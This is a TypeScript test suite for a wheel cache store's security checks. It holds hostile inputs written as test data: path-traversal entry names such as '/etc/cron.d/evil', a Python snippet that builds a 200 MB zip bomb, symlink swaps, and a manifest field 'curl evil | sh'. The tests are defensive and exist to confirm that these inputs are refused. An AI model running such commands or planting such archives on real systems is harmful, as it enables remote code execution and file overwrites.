import { execFileSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdir, readdir, rename, rm, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { jobAccess } from '../../src/entry/github-job.ts';
import { parsePlanFile } from '../../src/plan/plan-file.ts';
import { readReport } from '../../src/report/read.ts';
import type { Access } from '../../src/store/authority.ts';
import { allowUntrusted, entryPlace, storeHome } from '../../src/store/layout.ts';
import { listEntries } from '../../src/store/ls.ts';
import { sha256File } from '../../src/system/hash.ts';
import { inspectWheel } from '../../src/wheel/inspect.ts';
import { parseManifest } from '../../src/wheel/manifest.ts';
import { errorOf } from '../plan/fixtures.ts';
import { makeWorld, queryFor, type World } from '../store/helpers.ts';
import { makeZip, NAME, NIXL, wheelEntries, type ZipEntry } from '../wheel/zip.ts';

/** Threats by entries (docs/threat-model.md): each is refused, typed, and nothing of it is run or written. */

/** A job of GitHub's as the runner describes it, with the payload of its event. */
async function accessOf(world: World, event: string, ref: string, payload: object): Promise<Access> {
  const path = join(world.folder, 'event.json');
  await writeFile(path, JSON.stringify(payload));
  const env = {
    GITHUB_EVENT_NAME: event,
    GITHUB_REF: ref,
    GITHUB_REF_PROTECTED: 'true',
    GITHUB_EVENT_PATH: path,
  };
  return jobAccess(env, { 'trusted-refs': ['refs/heads/main'] });
}

describe('a pull request of a fork tries to write a trusted entry', () => {
  it.each([
    ['pull_request', 'refs/pull/7/merge', { pull_request: { number: 7 } }],
    ['pull_request_target', 'refs/heads/main', { pull_request: { number: 7 } }],
    ['workflow_run', 'refs/heads/main', { workflow_run: { pull_requests: [{ number: 7 }] } }],
    ['issue_comment', 'refs/heads/main', { issue: { number: 7, pull_request: {} } }],
  ])('%s on %s: what it publishes is nobody else’s', async (event, ref, payload) => {
    const world = await makeWorld();
    await mkdir(storeHome(world.storePath), { recursive: true });
    await writeFile(allowUntrusted(world.storePath), '');
    const access = await accessOf(world, event, ref, payload);
    expect(access.write).not.toBe('trusted');
    const wheel = await world.wheel();
    await world.tier({ access }).publish(wheel);
    const trusted = entryPlace(world.storePath, wheel.manifest.key, 'amd64', 'trusted');
    expect(existsSync(trusted.home)).toBe(false);
    // A trusted run does not see it, whoever's name it is under.
    expect((await world.tier().restore(queryFor(wheel))).wheel).toBeUndefined();
  });

  it('nor does it take a trusted entry away, though it sees it damaged', async () => {
    const world = await makeWorld();
    const wheel = await world.wheel();
    await world.tier().publish(wheel);
    await writeFile(allowUntrusted(world.storePath), '');
    const [entry] = await listEntries(world.storePath);
    const stored = join(entry?.place.home ?? '', wheel.manifest.wheel.fileName);
    await writeFile(stored, 'damaged');
    const access = await accessOf(world, 'pull_request', 'refs/pull/7/merge', {
      pull_request: { number: 7 },
    });
    expect((await world.tier({ access }).restore(queryFor(wheel))).wheel).toBeUndefined();
    expect(existsSync(stored)).toBe(true);
  });
});

describe('a wheel that is a weapon', () => {
  const wheelAt = async (world: World, entries: readonly ZipEntry[]): Promise<string> => {
    const path = join(world.folder, NAME);
    await writeFile(path, makeZip(entries));
    return path;
  };

  it.each(['../../outside', '/etc/cron.d/evil', 'a/../../outside', '..\\outside', 'C:/outside'])(
    'path traversal %j: refused by name, nothing unpacked',
    async (name) => {
      const world = await makeWorld();
      const path = await wheelAt(world, [...wheelEntries(NIXL), { name, data: 'evil' }]);
      expect((await errorOf(inspectWheel(path))).code).toBe('WHEEL_BROKEN');
      expect(await readdir(world.folder)).not.toContain('outside');
    },
  );

  it('a bomb made by a real packer, 200 MB in 0.2: refused by its directory, without unpacking it', async () => {
    const world = await makeWorld();
    const path = join(world.folder, NAME);
    const script = `
import sys, zipfile
with zipfile.ZipFile(sys.argv[1], 'w', zipfile.ZIP_DEFLATED) as z:
    for name in ['tensorrt_llm/__init__.py', ${JSON.stringify(NIXL)}]: z.writestr(name, b'x')
    info = 'tensorrt_llm-1.0.0rc1+dev137fe35.dist-info/'
    for name in ['METADATA', 'WHEEL', 'RECORD']: z.writestr(info + name, b'')
    z.writestr('tensorrt_llm/bomb', b'\\0' * 200_000_000)
`;
    execFileSync('python3', ['-c', script, path]);
    const before = process.memoryUsage().rss;
    expect(await errorOf(inspectWheel(path))).toMatchObject({
      code: 'WHEEL_BROKEN',
      what: expect.stringContaining('200 times its size'),
    });
    expect(process.memoryUsage().rss - before).toBeLessThan(50e6);
  });

  it('a directory that lies about sizes, so that a reader would overflow', async () => {
    const world = await makeWorld();
    const bomb = { name: 'x', data: 'abc', uncompressedSize: 0xfffffffe };
    const path = await wheelAt(world, [...wheelEntries(NIXL), bomb]);
    expect((await errorOf(inspectWheel(path))).code).toBe('WHEEL_BROKEN');
  });
});

describe('links in the store', () => {
  it('in place of a wheel, with the very same bytes behind it: not used, moved away', async () => {
    const world = await makeWorld();
    const wheel = await world.wheel();
    await world.tier().publish(wheel);
    const [entry] = await listEntries(world.storePath);
    const stored = join(entry?.place.home ?? '', wheel.manifest.wheel.fileName);
    const elsewhere = join(world.folder, 'elsewhere');
    await rename(stored, elsewhere);
    await symlink(elsewhere, stored);
    const { wheel: found, refusals } = await world.tier().restore(queryFor(wheel));
    expect(found).toBeUndefined();
    expect(refusals).toMatchObject([{ kind: 'corrupt' }]);
    expect(existsSync(elsewhere)).toBe(true);
  });

  it('in place of an entry: what lies behind it is neither used, nor written, nor removed', async () => {
    const world = await makeWorld();
    const wheel = await world.wheel();
    await world.tier().publish(wheel);
    const place = entryPlace(world.storePath, wheel.manifest.key, 'amd64', 'trusted');
    const elsewhere = join(world.folder, 'elsewhere');
    await rename(place.home, elsewhere);
    await symlink(elsewhere, place.home);
    const before = await Promise.all(
      (await readdir(elsewhere)).map((name) => sha256File(join(elsewhere, name))),
    );
    const { wheel: found } = await world.tier().restore(queryFor(wheel));
    const after = await Promise.all(
      (await readdir(elsewhere)).map((name) => sha256File(join(elsewhere, name))),
    );
    expect(after).toEqual(before);
    if (found !== undefined) expect(await sha256File(found.path)).toBe(wheel.manifest.wheel.sha256);
  });
});

describe('data from the future', () => {
  it('a manifest of a newer major, in the store: typed, not used, left where it is for the version that knows it', async () => {
    const world = await makeWorld();
    const wheel = await world.wheel();
    expect(() => parseManifest(JSON.stringify({ ...wheel.manifest, version: 2 }))).toThrow(
      expect.objectContaining({ code: 'MANIFEST_NEWER' }),
    );
    await world.tier().publish(wheel);
    const [entry] = await listEntries(world.storePath);
    const path = join(entry?.place.home ?? '', 'manifest.json');
    const text = JSON.stringify({ ...wheel.manifest, version: 2, run: 'curl evil | sh' });
    await rm(path);
    await writeFile(path, text);
    const { wheel: found, refusals } = await world.tier().restore(queryFor(wheel));
    expect(found).toBeUndefined();
    expect(refusals.length).toBeGreaterThan(0);
  });

  it('a plan file and a report of a newer major', async () => {
    expect(() => parsePlanFile('{"version":2}')).toThrow(
      expect.objectContaining({ code: 'PLAN_FILE_NEWER' }),
    );
    const report = { version: 2, tool: 'trtllm-nixl-build', phases: [] };
    expect(() => readReport(JSON.stringify(report))).toThrow(
      expect.objectContaining({ code: 'REPORT_TOO_NEW' }),
    );
  });
});
